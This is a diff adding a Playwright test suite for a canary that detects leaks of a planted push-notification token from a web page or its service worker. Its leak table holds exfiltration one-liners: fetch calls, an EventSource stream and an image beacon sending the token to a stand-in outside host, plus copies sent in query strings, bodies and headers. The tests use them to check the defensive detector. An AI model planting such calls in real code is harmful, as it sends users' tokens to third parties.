@@ -1,0 +1,66 @@
+import { expect, test } from '@playwright/test';
+import { apiOrigin, appOrigin } from './addresses.ts';
+import { createTokenWatch } from './tokenCanary.ts';
+
+const elsewhere = 'https://elsewhere.test';
+const token = 'fcm-planted';
+
+/** Requests that a careless change could make, as scripts of the page or of its worker. */
+const leaks: Record<string, string> = {
+  'in the address, to another host': `fetch('${elsewhere}/collect?token=${token}')`,
+  'in the body, to the path of the sign-in on another host': `fetch('${elsewhere}/api/users/oauth', { method: 'POST', body: '${token}' })`,
+  'in the address of the sign-in itself': `fetch('${apiOrigin}/api/users/oauth?fcmToken=${token}', { method: 'POST' })`,
+  'in the address of another call': `fetch('${apiOrigin}/api/event/popular?fcmToken=${token}')`,
+  'in the body of another call': `fetch('${apiOrigin}/api/topic/subscribe', { method: 'POST', body: '{"fcmToken":"${token}"}' })`,
+  'in a header': `fetch('${apiOrigin}/api/event/popular', { headers: { 'X-Token': '${token}' } })`,
+  'in a stream': `void new EventSource('${elsewhere}/stream?token=${token}')`,
+  'in an image': `void (new Image().src = '${elsewhere}/${token}.png')`,
+};
+
+test.describe('the canary of the push token', () => {
+  for (const [how, script] of Object.entries(leaks)) {
+    test(`notices one that leaves a page ${how}`, async ({ browser }) => {
+      const context = await browser.newContext({ bypassCSP: true });
+      const watch = createTokenWatch();
+      watch.watch(context);
+      const page = await context.newPage();
+      await page.route(`${elsewhere}/**`, (route) => route.fulfill({ body: '' }));
+      await page.goto(`${appOrigin}/privacy_consent_form.html`);
+      await page.evaluate(`void Promise.resolve(${script}).catch(() => undefined)`);
+      await expect.poll(() => watch.leaks.length).toBe(1);
+      await context.close();
+    });
+  }
+
+  test('notices one that leaves the worker', async ({ browser }) => {
+    const context = await browser.newContext({ serviceWorkers: 'allow' });
+    const watch = createTokenWatch();
+    watch.watch(context);
+    const page = await context.newPage();
+    const starting = context.waitForEvent('serviceworker');
+    await page.goto(`${appOrigin}/guide`);
+    const worker = await starting;
+    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
+    await worker.evaluate(
+      async (address) => void (await fetch(address).catch(() => undefined)),
+      `${apiOrigin}/api/event/popular?fcmToken=${token}`,
+    );
+    await expect.poll(() => watch.leaks).toEqual([expect.stringContaining('/api/event/popular')]);
+    await context.close();
+  });
+
+  test('lets it go to the API at a sign-in', async ({ browser }) => {
+    const context = await browser.newContext();
+    const watch = createTokenWatch();
+    watch.watch(context);
+    const page = await context.newPage();
+    await page.goto(`${appOrigin}/privacy_consent_form.html`);
+    await page.evaluate(
+      ([api, body]) => fetch(`${api}/api/users/oauth`, { method: 'POST', body }).catch(() => undefined),
+      [apiOrigin, token] as const,
+    );
+    expect([...watch.places]).toEqual([`POST ${apiOrigin}/api/users/oauth`]);
+    expect(watch.leaks).toEqual([]);
+    await context.close();
+  });
+});
